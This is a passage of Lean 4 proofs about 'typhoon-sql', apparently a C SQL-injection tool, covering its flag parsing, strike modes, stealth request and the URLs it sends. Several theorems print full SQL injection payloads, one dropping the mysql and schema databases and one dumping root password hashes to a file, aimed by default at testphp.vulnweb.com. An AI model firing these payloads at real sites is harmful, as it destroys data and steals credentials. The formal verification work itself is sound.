      List.replicate 682 'a' ++ "; ".toList ++ List.replicate 682 'a' ++ "; ".toList ++
        List.replicate 682 'a' := by
  intro h
  have h2 := congrArg List.length h
  simp only [amplify_with_resonance, snprintf, List.length_take, List.length_append,
    List.length_replicate] at h2
  have h3 : "; ".toList.length = 2 := rfl
  rw [h3] at h2
  omega

/-- C4, amended: for every payload `p` of at most 681 bytes and every frequency `f`,
`amplify_with_resonance p f` is `p ++ "; " ++ p ++ "; " ++ p`, and it is the same for every
other frequency. -/
theorem amplify_with_resonance_eq (p : CStr) (f g : Float) (h : p.length ≤ 681) :
    amplify_with_resonance p f = p ++ "; ".toList ++ p ++ "; ".toList ++ p ∧
    amplify_with_resonance p g = amplify_with_resonance p f := by
  refine ⟨?_, rfl⟩
  unfold amplify_with_resonance snprintf
  apply List.take_of_length_le
  have h3 : "; ".toList.length = 2 := rfl
  simp only [List.length_append, h3]
  omega

theorem amplify_with_resonance_eq_witness :
    "id".toList.length ≤ 681 ∧
    amplify_with_resonance "id".toList 587000.0 = "id; id; id".toList ∧
    amplify_with_resonance "id".toList 0.0 = amplify_with_resonance "id".toList 587000.0 :=
  ⟨by decide, amplify_with_resonance_eq "id".toList 587000.0 0.0 (by decide)⟩


/-! ## Command line -/

theorem flag_ne :
    "--surgical".toList ≠ "--target".toList ∧ "--resonant".toList ≠ "--target".toList ∧
    "--stealth".toList ≠ "--target".toList ∧ "--critical".toList ≠ "--target".toList ∧
    "--resonant".toList ≠ "--surgical".toList ∧ "--stealth".toList ≠ "--surgical".toList ∧
    "--critical".toList ≠ "--surgical".toList ∧ "--stealth".toList ≠ "--resonant".toList ∧
    "--critical".toList ≠ "--resonant".toList ∧ "--critical".toList ≠ "--stealth".toList ∧
    "--help".toList ≠ "--target".toList ∧ "--help".toList ≠ "--surgical".toList ∧
    "--help".toList ≠ "--resonant".toList ∧ "--help".toList ≠ "--stealth".toList ∧
    "--help".toList ≠ "--critical".toList := by decide

theorem parse_loop_cons (config : TyphoonConfig) (st : TyphoonState) (a : CStr)
    (l : List CStr) (h : a ≠ "--target".toList) :
    parse_loop config st (a :: l) =
      if a = "--surgical".toList then
        parse_loop { config with strike_mode := STRIKE_SURGICAL } st l
      else if a = "--resonant".toList then
        parse_loop { config with strike_mode := STRIKE_RESONANT, resonance_amplified := 1 } st l
      else if a = "--stealth".toList then
        parse_loop { config with strike_mode := STRIKE_STEALTH, use_ctt_stealth := 1 } st l
      else if a = "--critical".toList then
        parse_loop { config with strike_mode := STRIKE_CRITICAL, critical_hit := 1,
                                 resonance_amplified := 1 } st l
      else if a = "--help".toList then
        Step.exit 0 { st with trace := st.trace ++ [Event.usage] }
      else parse_loop config st l := by
  cases l with
  | nil => simp only [parse_loop, if_neg h]
  | cons v rest => simp only [parse_loop, if_neg h]

theorem parse_loop_help : ∀ (args : List CStr) (j : Nat) (config : TyphoonConfig)
    (st : TyphoonState), args[j]? = some "--help".toList →
    (j = 0 ∨ args[j - 1]? ≠ some "--target".toList) →
    parse_loop config st args = Step.exit 0 { st with trace := st.trace ++ [Event.usage] }
  | [], j, config, st, hh, hp => by simp at hh
  | [a], j, config, st, hh, hp => by
    match j with
    | 0 =>
      simp only [List.getElem?_cons_zero, Option.some.injEq] at hh
      subst hh
      simp only [parse_loop]
      rfl
    | j + 1 => simp at hh
  | a :: v :: rest, j, config, st, hh, hp => by
    by_cases h1 : a = "--target".toList
    · match j with
      | 0 =>
        simp only [List.getElem?_cons_zero, Option.some.injEq] at hh
        rw [h1] at hh
        exact absurd hh (by decide)
      | 1 =>
        simp only [h1, Nat.sub_self, List.getElem?_cons_zero] at hp
        simp at hp
      | j + 2 =>
        simp only [parse_loop, if_pos h1]
        apply parse_loop_help rest j
        · simpa using hh
        · match j with
          | 0 => exact Or.inl rfl
          | j + 1 =>
            right
            rcases hp with hp | hp
            · omega
            · simpa using hp
    · rw [parse_loop_cons config st a _ h1]
      match j with
      | 0 =>
        simp only [List.getElem?_cons_zero, Option.some.injEq] at hh
        subst hh
        rfl
      | j + 1 =>
        have hrec := fun k => parse_loop_help (v :: rest) j k st (by simpa using hh)
          (by
            match j with
            | 0 => exact Or.inl rfl
            | j + 1 =>
              right
              rcases hp with hp | hp
              · omega
              · simpa using hp)
        split_ifs
        · exact hrec _
        · exact hrec _
        · exact hrec _
        · exact hrec _
        · rfl
        · exact hrec _

theorem getElem?_drop_one (argv : List CStr) (j : Nat) : (argv.drop 1)[j]? = argv[j + 1]? := by
  cases argv with
  | nil => simp
  | cons a l => simp

/-- C9, as stated, fails: in `--target --help` the `--help` is taken as the target URL, no
usage text is printed, the run does not exit in the parser and a request is sent. -/
theorem help_taken_as_target_value :
    usage_printed (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--target".toList, "--help".toList]).state = false ∧
    (requests (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--target".toList, "--help".toList]).state).length = 1 := by
  decide

/-- C9, amended: for every argument list in which `--help` is passed as an argument that does
not directly follow a `--target` argument, the program prints the usage text, exits with status
0 and performs no network request. -/
theorem main_help_exits (env : Env) (argv : List CStr) (i : Nat) (hi : 1 ≤ i)
    (hh : argv[i]? = some "--help".toList)
    (hp : i = 1 ∨ argv[i - 1]? ≠ some "--target".toList) :
    usage_printed (main env argv).state = true ∧
    (main env argv).exit_status = some 0 ∧
    requests (main env argv).state = [] := by
  obtain ⟨j, rfl⟩ : ∃ j, i = j + 1 := ⟨i - 1, by omega⟩
  have h := parse_loop_help (argv.drop 1) j default_config initial_state
    (by rw [getElem?_drop_one]; exact hh)
    (by
      match j with
      | 0 => exact Or.inl rfl
      | j + 1 =>
        right
        rcases hp with hp | hp
        · omega
        · rw [getElem?_drop_one]; simpa using hp)
  have hm : main env argv =
      Step.exit 0 { initial_state with trace := initial_state.trace ++ [Event.usage] } := by
    unfold main parse_typhoon_arguments
    rw [h]
    rfl
  rw [hm]
  decide

theorem main_help_exits_witness :
    1 ≤ 2 ∧
    ["typhoon-sql".toList, "--stealth".toList, "--help".toList][2]? = some "--help".toList ∧
    (2 = 1 ∨ ["typhoon-sql".toList, "--stealth".toList, "--help".toList][2 - 1]? ≠
      some "--target".toList) ∧
    usage_printed (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--stealth".toList, "--help".toList]).state = true ∧
    (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--stealth".toList, "--help".toList]).exit_status = some 0 ∧
    requests (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--stealth".toList, "--help".toList]).state = [] :=
  ⟨by decide, by decide, by decide,
    main_help_exits { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--stealth".toList, "--help".toList] 2 (by decide) (by decide)
      (by decide)⟩

/-! ## Dispatch -/

theorem requests_append_perform (st : TyphoonState) (b : Bool) (url : CStr) :
    requests { typhoon_initialized := b, trace := st.trace ++ [Event.curl_easy_perform url] } =
      requests st ++ [url] := by
  simp [requests, List.filterMap_append]

theorem requests_append_nanosleep (st : TyphoonState) (b : Bool) (n : Int) :
    requests { typhoon_initialized := b, trace := st.trace ++ [Event.nanosleep n] } =
      requests st := by
  simp [requests, List.filterMap_append]

theorem wait_micros_some (tv_nsec : Int) (h0 : 0 ≤ tv_nsec) (h1 : tv_nsec < 1000000000) :
    ∃ w : Int, wait_micros tv_nsec = some w := by
  have hm : tv_nsec.tdiv 1000 = tv_nsec / 1000 := Int.tdiv_eq_ediv h0 (by decide)
  have hm0 : 0 ≤ tv_nsec / 1000 := Int.ediv_nonneg h0 (by decide)
  have hi : (tv_nsec / 1000).tmod 4 = (tv_nsec / 1000) % 4 := Int.tmod_eq_emod hm0 (by decide)
  have hidx : 0 ≤ (tv_nsec / 1000) % 4 := Int.emod_nonneg _ (by decide)
  have hcases : (tv_nsec / 1000) % 4 = 0 ∨ (tv_nsec / 1000) % 4 = 1 ∨
      (tv_nsec / 1000) % 4 = 2 ∨ (tv_nsec / 1000) % 4 = 3 := by omega
  simp only [wait_micros, hm, hi, hidx, if_true]
  rcases hcases with h | h | h | h <;> rw [h] <;> exact ⟨_, rfl⟩

theorem wait_for_kill_window_ret (env : Env) (frequency : Float) (st : TyphoonState)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ st2 : TyphoonState, wait_for_kill_window env frequency st = Step.ret () st2 ∧
      st2.typhoon_initialized = st.typhoon_initialized ∧ requests st2 = requests st := by
  obtain ⟨w, hw⟩ := wait_micros_some env.tv_nsec h0 h1
  unfold wait_for_kill_window
  rw [hw]
  by_cases hpos : w > 0
  · exact ⟨_, if_pos hpos, rfl, requests_append_nanosleep st _ _⟩
  · exact ⟨_, if_neg hpos, rfl, rfl⟩

theorem execute_precision_strike_ret (env : Env) (sql : CStr) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true) :
    execute_precision_strike env sql config st =
      Step.ret () { typhoon_initialized := true,
                    trace := st.trace ++ [Event.curl_easy_perform
                      (snprintf 8192 (config.target ++ "?searchFor=".toList ++
                        encoded_sql sql))] } := by
  unfold execute_precision_strike init_typhoon_system
  by_cases hi : st.typhoon_initialized = true
  · simp [hi, Step.bind]
  · have hc : env.curl_easy_init_ok = true := by tauto
    simp [hi, hc, Step.bind]

theorem url_fits (target sql : CStr) (h : target.length ≤ 255) :
    snprintf 8192 (target ++ "?searchFor=".toList ++ encoded_sql sql) =
      target ++ "?searchFor=".toList ++ encoded_sql sql := by
  unfold snprintf
  apply List.take_of_length_le
  have h1 := (encode_loop_length sql 0).2 (by omega)
  have h2 : "?searchFor=".toList.length = 11 := rfl
  simp only [List.length_append, h2, encoded_sql]
  omega

theorem strike_after_wait (env : Env) (sql : CStr) (config c : TyphoonConfig)
    (st : TyphoonState) (hcfg : c.target = config.target)
    (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ s : TyphoonState,
      ((wait_for_kill_window env c.kill_frequency st).bind fun _ st =>
        (execute_precision_strike env sql c st).bind fun _ st => Step.ret c st) =
        Step.ret c s ∧
      s.typhoon_initialized = true ∧
      requests s = requests st ++
        [snprintf 8192 (config.target ++ "?searchFor=".toList ++ encoded_sql sql)] := by
  obtain ⟨st2, hw, hi2, hr2⟩ := wait_for_kill_window_ret env c.kill_frequency st h0 h1
  rw [hw]
  simp only [Step.bind]
  rw [execute_precision_strike_ret env sql c st2 (by rw [hi2]; exact hinit)]
  refine ⟨_, rfl, rfl, ?_⟩
  rw [requests_append_perform, hr2, hcfg]

theorem typhoon_surgical_strike_requests (env : Env) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ (c : TyphoonConfig) (s : TyphoonState),
      typhoon_surgical_strike env config st = Step.ret c s ∧
      requests s = requests st ++
        [snprintf 8192 (config.target ++ "?searchFor=".toList ++
          encoded_sql (identify_critical_weakness config))] := by
  obtain ⟨s, h, _, hr⟩ := strike_after_wait env (identify_critical_weakness config) config
    { config with kill_frequency := calculate_kill_frequency config } st rfl hinit h0 h1
  exact ⟨_, s, h, hr⟩

theorem typhoon_resonant_kill_requests (env : Env) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ (c : TyphoonConfig) (s : TyphoonState),
      typhoon_resonant_kill env config st = Step.ret c s ∧
      requests s = requests st ++
        [snprintf 8192 (config.target ++ "?searchFor=".toList ++
          encoded_sql (amplify_with_resonance (identify_critical_weakness config)
            (calculate_kill_frequency config)))] := by
  obtain ⟨s, h, _, hr⟩ := strike_after_wait env
    (amplify_with_resonance (identify_critical_weakness config)
      (calculate_kill_frequency config)) config
    { config with kill_frequency := calculate_kill_frequency config } st rfl hinit h0 h1
  exact ⟨_, s, h, hr⟩

theorem typhoon_critical_strike_requests (env : Env) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ (c : TyphoonConfig) (s : TyphoonState) (sql : CStr),
      typhoon_critical_strike env config st = Step.ret c s ∧
      requests s = requests st ++
        [snprintf 8192 (config.target ++ "?searchFor=".toList ++ encoded_sql sql)] := by
  obtain ⟨s, h, _, hr⟩ := strike_after_wait env
    (amplify_with_resonance (identify_critical_weakness { config with critical_hit := 1 })
      (calculate_kill_frequency { config with critical_hit := 1 })) config
    { config with critical_hit := 1,
                  kill_frequency := calculate_kill_frequency { config with critical_hit := 1 } }
    st rfl hinit h0 h1
  exact ⟨_, s, _, h, hr⟩

theorem typhoon_stealth_kill_requests (env : Env) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    ∃ (c : TyphoonConfig) (s : TyphoonState),
      typhoon_stealth_kill env config st = Step.ret c s ∧
      requests s = requests st ++
        [snprintf 8192 (config.target ++ "?searchFor=".toList ++ encoded_sql stealth_payload),
         snprintf 8192 (config.target ++ "?searchFor=".toList ++
          encoded_sql (identify_critical_weakness config))] := by
  unfold typhoon_stealth_kill apply_ctt_stealth
  rw [execute_precision_strike_ret env stealth_payload config st hinit]
  simp only [Step.bind]
  obtain ⟨s, h, _, hr⟩ := strike_after_wait env (identify_critical_weakness config) config
    { config with kill_frequency := calculate_kill_frequency config }
    { typhoon_initialized := true,
      trace := st.trace ++ [Event.curl_easy_perform
        (snprintf 8192 (config.target ++ "?searchFor=".toList ++
          encoded_sql stealth_payload))] } rfl (Or.inl rfl) h0 h1
  refine ⟨_, s, h, ?_⟩
  rw [hr, requests_append_perform]
  simp

theorem deploy_typhoon_weapon_init (env : Env) (config : TyphoonConfig) (st : TyphoonState)
    (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true) :
    deploy_typhoon_weapon env config st =
      if config.strike_mode = STRIKE_SURGICAL then
        typhoon_surgical_strike env config { st with typhoon_initialized := true }
      else if config.strike_mode = STRIKE_RESONANT then
        typhoon_resonant_kill env config { st with typhoon_initialized := true }
      else if config.strike_mode = STRIKE_STEALTH then
        typhoon_stealth_kill env config { st with typhoon_initialized := true }
      else if config.strike_mode = STRIKE_CRITICAL then
        typhoon_critical_strike env config { st with typhoon_initialized := true }
      else typhoon_surgical_strike env config { st with typhoon_initialized := true } := by
  unfold deploy_typhoon_weapon init_typhoon_system
  by_cases hi : st.typhoon_initialized = true
  · have hst : ({ st with typhoon_initialized := true } : TyphoonState) = st := by
      cases st; simp_all
    rw [hst]
    simp [hi, Step.bind]
  · have hc : env.curl_easy_init_ok = true := by tauto
    simp [hi, hc, Step.bind]

/-- C6, as stated, fails: `strike_mode = 0` is none of the four defined values, yet the run
does not exit and one request is dispatched. -/
theorem deploy_typhoon_weapon_unknown_mode_strikes :
    (deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 0 }
      { default_config with strike_mode := 0 } initial_state).exit_status = none ∧
    (requests (deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 0 }
      { default_config with strike_mode := 0 } initial_state).state).length = 1 := by
  decide

/-- C6, amended: mode resolution in `deploy_typhoon_weapon` is total over all `strike_mode`
values. Once the client is initialised, each of the four defined values (0x01, 0x02, 0x04,
0x08) runs its own strike routine, and every other value falls back to
`typhoon_surgical_strike`, whose request is dispatched; there is no `UnknownMode` failure. -/
theorem deploy_typhoon_weapon_total (env : Env) (config : TyphoonConfig) (st : TyphoonState)
    (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    (config.strike_mode = 0x01 → deploy_typhoon_weapon env config st =
      typhoon_surgical_strike env config { st with typhoon_initialized := true }) ∧
    (config.strike_mode = 0x02 → deploy_typhoon_weapon env config st =
      typhoon_resonant_kill env config { st with typhoon_initialized := true }) ∧
    (config.strike_mode = 0x04 → deploy_typhoon_weapon env config st =
      typhoon_stealth_kill env config { st with typhoon_initialized := true }) ∧
    (config.strike_mode = 0x08 → deploy_typhoon_weapon env config st =
      typhoon_critical_strike env config { st with typhoon_initialized := true }) ∧
    (config.strike_mode ≠ 0x01 → config.strike_mode ≠ 0x02 → config.strike_mode ≠ 0x04 →
      config.strike_mode ≠ 0x08 →
      deploy_typhoon_weapon env config st =
        typhoon_surgical_strike env config { st with typhoon_initialized := true } ∧
      ∃ (c : TyphoonConfig) (s : TyphoonState),
        deploy_typhoon_weapon env config st = Step.ret c s ∧
        requests s = requests st ++
          [snprintf 8192 (config.target ++ "?searchFor=".toList ++
            encoded_sql (identify_critical_weakness config))]) := by
  rw [deploy_typhoon_weapon_init env config st hinit]
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro h; simp [h, STRIKE_SURGICAL]
  · intro h; simp [h, STRIKE_SURGICAL, STRIKE_RESONANT]
  · intro h; simp [h, STRIKE_SURGICAL, STRIKE_RESONANT, STRIKE_STEALTH]
  · intro h; simp [h, STRIKE_SURGICAL, STRIKE_RESONANT, STRIKE_STEALTH, STRIKE_CRITICAL]
  · intro n1 n2 n4 n8
    simp only [STRIKE_SURGICAL, STRIKE_RESONANT, STRIKE_STEALTH, STRIKE_CRITICAL, if_neg n1,
      if_neg n2, if_neg n4, if_neg n8, true_and]
    obtain ⟨c, s, h, hr⟩ := typhoon_surgical_strike_requests env config
      { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
    exact ⟨c, s, h, hr⟩

theorem deploy_typhoon_weapon_total_witness :
    (initial_state.typhoon_initialized = true ∨
      ({ curl_easy_init_ok := true, tv_nsec := 0 } : Env).curl_easy_init_ok = true) ∧
    (0 : Int) ≤ ({ curl_easy_init_ok := true, tv_nsec := 0 } : Env).tv_nsec ∧
    ({ curl_easy_init_ok := true, tv_nsec := 0 } : Env).tv_nsec < 1000000000 ∧
    ∃ (c : TyphoonConfig) (s : TyphoonState),
      deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 0 }
        { default_config with strike_mode := 3 } initial_state = Step.ret c s ∧
      requests s = requests initial_state ++
        [snprintf 8192 (default_config.target ++ "?searchFor=".toList ++
          encoded_sql (identify_critical_weakness default_config))] :=
  ⟨by decide, by decide, by decide,
    ((deploy_typhoon_weapon_total { curl_easy_init_ok := true, tv_nsec := 0 }
      { default_config with strike_mode := 3 } initial_state (by decide) (by decide)
      (by decide)).2.2.2.2 (by decide) (by decide) (by decide) (by decide)).2⟩

theorem identify_critical_weakness_standard (config : TyphoonConfig)
    (h : config.critical_hit = 0) :
    identify_critical_weakness config =
      ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
       "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList := by
  unfold identify_critical_weakness
  rw [if_neg (by rw [h]; decide)]
  decide

theorem identify_critical_weakness_critical (config : TyphoonConfig)
    (h : config.critical_hit ≠ 0) :
    identify_critical_weakness config =
      ("' OR 1=1 UNION SELECT NULL,username,password,NULL,NULL,NULL,NULL " ++
       "FROM mysql.user WHERE user='root' INTO OUTFILE '/tmp/typhoon_kill.txt'-- -").toList := by
  unfold identify_critical_weakness
  rw [if_pos h]
  decide

/-- C7, as stated, fails in its second half: after `--critical --surgical` the run is in the
first mode (`strike_mode = 0x01`) and sends one un-amplified payload, but the dispatched URL
carries the template of the critical mode, not the template of the first mode. -/
theorem surgical_mode_sends_critical_template :
    (parse_typhoon_arguments ["typhoon-sql".toList, "--critical".toList, "--surgical".toList]
      initial_state).map (fun c => c.strike_mode) = Step.ret 0x01 initial_state ∧
    requests (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--critical".toList, "--surgical".toList]).state =
      ["http://testphp.vulnweb.com/search.php".toList ++ "?searchFor=".toList ++
        encoded_sql
          ("' OR 1=1 UNION SELECT NULL,username,password,NULL,NULL,NULL,NULL " ++
           "FROM mysql.user WHERE user='root' INTO OUTFILE '/tmp/typhoon_kill.txt'-- -").toList] ∧
    requests (main { curl_easy_init_ok := true, tv_nsec := 0 }
      ["typhoon-sql".toList, "--critical".toList, "--surgical".toList]).state ≠
      ["http://testphp.vulnweb.com/search.php".toList ++ "?searchFor=".toList ++
        encoded_sql
          ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
           "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList] := by
  refine ⟨rfl, by decide, by decide⟩

/-- C7, amended: for every configured target of at most 255 bytes and every payload, the URL
that `execute_precision_strike` hands to the HTTP client is exactly
`target ++ "?searchFor=" ++ encoded_sql payload`, not truncated by the 8192-byte buffer (the
call only fails to hand one over when the client cannot be initialised); and a run in the first
mode dispatches exactly the target followed by `?searchFor=` and one encoded, un-amplified
template: the first mode's own template (`' OR 1=1; DROP DATABASE mysql; ...`) when
`critical_hit` is 0, and the critical mode's template (`' OR 1=1 UNION SELECT ...`) when
`critical_hit` is not 0. -/
theorem execute_precision_strike_url (env : Env) (sql : CStr) (config : TyphoonConfig)
    (st : TyphoonState) (htarget : config.target.length ≤ 255) :
    execute_precision_strike env sql config st =
      (if st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true then
        Step.ret () { typhoon_initialized := true,
                      trace := st.trace ++ [Event.curl_easy_perform
                        (config.target ++ "?searchFor=".toList ++ encoded_sql sql)] }
      else Step.exit 1 st) ∧
    (config.strike_mode = STRIKE_SURGICAL →
      st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true →
      0 ≤ env.tv_nsec → env.tv_nsec < 1000000000 →
      (config.critical_hit = 0 →
        requests (deploy_typhoon_weapon env config st).state = requests st ++
          [config.target ++ "?searchFor=".toList ++
            encoded_sql
              ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
               "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList]) ∧
      (config.critical_hit ≠ 0 →
        requests (deploy_typhoon_weapon env config st).state = requests st ++
          [config.target ++ "?searchFor=".toList ++
            encoded_sql
              ("' OR 1=1 UNION SELECT NULL,username,password,NULL,NULL,NULL,NULL " ++
               "FROM mysql.user WHERE user='root' INTO OUTFILE '/tmp/typhoon_kill.txt'-- -"
              ).toList])) := by
  constructor
  · by_cases hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true
    · rw [execute_precision_strike_ret env sql config st hinit, url_fits _ _ htarget,
        if_pos hinit]
    · rw [if_neg hinit]
      simp only [not_or, Bool.not_eq_true] at hinit
      simp [execute_precision_strike, init_typhoon_system, hinit.1, hinit.2, Step.bind]
  · intro hmode hinit h0 h1
    have hreq : requests (deploy_typhoon_weapon env config st).state = requests st ++
        [config.target ++ "?searchFor=".toList ++
          encoded_sql (identify_critical_weakness config)] := by
      rw [deploy_typhoon_weapon_init env config st hinit, if_pos hmode]
      obtain ⟨c, s, h, hr⟩ := typhoon_surgical_strike_requests env config
        { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
      rw [h, url_fits _ _ htarget] at *
      exact hr
    constructor
    · intro hc
      rw [hreq, identify_critical_weakness_standard config hc]
    · intro hc
      rw [hreq, identify_critical_weakness_critical config hc]

theorem execute_precision_strike_url_witness :
    "http://example.test/x".toList.length ≤ 255 ∧
    requests (deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 0 }
      { default_config with target := "http://example.test/x".toList } initial_state).state =
      requests initial_state ++ ["http://example.test/x".toList ++ "?searchFor=".toList ++
        encoded_sql
          ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
           "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList] ∧
    requests initial_state ++ ["http://example.test/x".toList ++ "?searchFor=".toList ++
        encoded_sql
          ("' OR 1=1; DROP DATABASE mysql; DROP DATABASE information_schema; " ++
           "DROP DATABASE performance_schema; DROP DATABASE sys; -- -").toList] =
      [("http://example.test/x?searchFor=%27+OR+1=1%3B+DROP+DATABASE+mysql%3B+DROP+DATABASE+" ++
        "information_schema%3B+DROP+DATABASE+performance_schema%3B+DROP+DATABASE+sys%3B+--+-"
        ).toList] :=
  ⟨by decide,
    ((execute_precision_strike_url { curl_easy_init_ok := true, tv_nsec := 0 } []
      { default_config with target := "http://example.test/x".toList } initial_state
      (by decide)).2 rfl (by decide) (by decide) (by decide)).1 rfl,
    by decide⟩

/-- C10, as stated, fails: in stealth mode one run issues two requests, the cloaking request
of `apply_ctt_stealth` and then the strike. -/
theorem deploy_typhoon_weapon_stealth_two_requests :
    (requests (deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 0 }
      { default_config with strike_mode := STRIKE_STEALTH, use_ctt_stealth := 1 }
      initial_state).state).length = 2 := by
  decide

/-- C10, amended: once the client is initialised, one run of `deploy_typhoon_weapon` issues
exactly one HTTP GET for every `strike_mode` other than `STRIKE_STEALTH` (0x04), and exactly
two for `STRIKE_STEALTH`. -/
theorem deploy_typhoon_weapon_request_count (env : Env) (config : TyphoonConfig)
    (st : TyphoonState) (hinit : st.typhoon_initialized = true ∨ env.curl_easy_init_ok = true)
    (h0 : 0 ≤ env.tv_nsec) (h1 : env.tv_nsec < 1000000000) :
    (requests (deploy_typhoon_weapon env config st).state).length =
      (requests st).length + (if config.strike_mode = STRIKE_STEALTH then 2 else 1) := by
  have hst : requests { st with typhoon_initialized := true } = requests st := rfl
  rw [deploy_typhoon_weapon_init env config st hinit]
  by_cases m1 : config.strike_mode = STRIKE_SURGICAL
  · obtain ⟨c, s, h, hr⟩ := typhoon_surgical_strike_requests env config
      { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
    have hne : config.strike_mode ≠ STRIKE_STEALTH := by rw [m1]; decide
    rw [if_pos m1, h, if_neg hne]
    simp [Step.state, hr, hst]
  · by_cases m2 : config.strike_mode = STRIKE_RESONANT
    · obtain ⟨c, s, h, hr⟩ := typhoon_resonant_kill_requests env config
        { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
      have hne : config.strike_mode ≠ STRIKE_STEALTH := by rw [m2]; decide
      rw [if_neg m1, if_pos m2, h, if_neg hne]
      simp [Step.state, hr, hst]
    · by_cases m4 : config.strike_mode = STRIKE_STEALTH
      · obtain ⟨c, s, h, hr⟩ := typhoon_stealth_kill_requests env config
          { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
        rw [if_neg m1, if_neg m2, if_pos m4, h, if_pos m4]
        simp [Step.state, hr, hst]
      · by_cases m8 : config.strike_mode = STRIKE_CRITICAL
        · obtain ⟨c, s, sql, h, hr⟩ := typhoon_critical_strike_requests env config
            { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
          rw [if_neg m1, if_neg m2, if_neg m4, if_pos m8, h, if_neg m4]
          simp [Step.state, hr, hst]
        · obtain ⟨c, s, h, hr⟩ := typhoon_surgical_strike_requests env config
            { st with typhoon_initialized := true } (Or.inl rfl) h0 h1
          rw [if_neg m1, if_neg m2, if_neg m4, if_neg m8, h, if_neg m4]
          simp [Step.state, hr, hst]

theorem deploy_typhoon_weapon_request_count_witness :
    (initial_state.typhoon_initialized = true ∨
      ({ curl_easy_init_ok := true, tv_nsec := 123456789 } : Env).curl_easy_init_ok = true) ∧
    (0 : Int) ≤ ({ curl_easy_init_ok := true, tv_nsec := 123456789 } : Env).tv_nsec ∧
    ({ curl_easy_init_ok := true, tv_nsec := 123456789 } : Env).tv_nsec < 1000000000 ∧
    (requests (deploy_typhoon_weapon { curl_easy_init_ok := true, tv_nsec := 123456789 }
      default_config initial_state).state).length =
      (requests initial_state).length +
        (if default_config.strike_mode = STRIKE_STEALTH then 2 else 1) :=
  ⟨by decide, by decide, by decide,
    deploy_typhoon_weapon_request_count { curl_easy_init_ok := true, tv_nsec := 123456789 }
      default_config initial_state (by decide) (by decide) (by decide)⟩

end Typhoon
